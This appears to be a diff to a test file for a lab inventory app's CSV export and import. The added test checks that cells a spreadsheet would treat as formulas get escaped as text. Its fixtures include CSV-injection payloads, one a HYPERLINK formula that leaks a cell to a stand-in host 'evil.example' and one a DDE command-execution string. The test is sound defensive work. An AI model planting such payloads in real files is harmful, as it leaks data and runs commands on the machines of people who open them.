@@ -175,7 +175,8 @@ describe.each(dialects)('CSV export on %s', (dialect) => {
         rows.map((row) => [row.name, row.path, row.slot, row.parent === '' ? '' : 'has parent']),
       ).toEqual(
         [
-          ['-80 freezer A', 'Room 101', '', ''],
+          // A name starting with "-" would be a formula to a spreadsheet: the export marks it as text.
+          ["'-80 freezer A", 'Room 101', '', ''],
           ['Rack 3', 'Room 101 / -80 freezer A', '', 'has parent'],
           ['Box 12', 'Room 101 / -80 freezer A / Rack 3', '', 'has parent'],
           ['Tube B7', 'Room 101 / -80 freezer A / Rack 3 / Box 12', 'B7', 'has parent'],
@@ -205,6 +206,42 @@ describe.each(dialects)('CSV export on %s', (dialect) => {
         'Rack 3',
         'Tube B7',
       ]);
+    });
+
+    it('writes cells a spreadsheet would run as formulas as text, and imports them back as they were', async () => {
+      const hostile = {
+        name: '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
+        description: '@SUM(1+1)*cmd|" /C calc"!A0',
+        resistance: '+kan',
+      };
+      const made = await buildItem(a, userA, {
+        type: 'plasmid',
+        name: hostile.name,
+        description: hostile.description,
+        fields: { sequence: 'GATTACA', resistance: hostile.resistance, backbone: '-5' },
+      });
+      const exported = (
+        await getText(a, userA, `/api/exports/items.csv?q=${encodeURIComponent('HYPERLINK')}`)
+      ).text;
+      const [row] = rowsOf(exported);
+      expect(row).toMatchObject({
+        name: `'${hostile.name}`,
+        description: `'${hostile.description}`,
+        type: 'plasmid',
+      });
+      expect(Object.values(row ?? {}).filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
+      // Numbers stay numbers, even with a sign.
+      expect(Object.values(row ?? {})).toContain('-5');
+
+      const imported = await postCsv(b, userB, '/api/imports/items', exported.replaceAll(made.humanId, ''));
+      expect(imported.status, JSON.stringify(imported.body.errors)).toBe(201);
+      const id = imported.body.items?.[0]?.id;
+      const copy = await callApi<Item>(b, userB, 'GET', `/api/items/${id}`);
+      expect(copy.body).toMatchObject({
+        name: hostile.name,
+        description: hostile.description,
+        fields: { resistance: hostile.resistance, backbone: '-5' },
+      });
     });
 
     it('refuses a subtree of something that is not a live physical', async () => {
